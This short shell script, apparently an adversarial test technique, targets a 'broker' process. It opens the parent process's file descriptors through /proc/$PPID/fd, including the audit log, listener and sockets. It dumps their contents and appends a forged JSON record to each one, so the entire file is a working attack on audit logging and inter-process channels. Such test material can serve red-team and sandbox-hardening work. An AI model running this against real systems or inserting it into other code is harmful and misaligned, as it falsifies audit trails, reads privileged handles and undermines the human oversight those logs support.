# technique: open the broker's descriptors through /proc/$PPID/fd/* (audit log, listener, sockets) and write to them
. ./.adv/world.env
for f in /proc/$PPID/fd/*; do
	echo "== $f -> $(readlink "$f")"
	timeout 2 head -c 2000 "$f"
	echo '{"forged":"record"}' >> "$f"
done
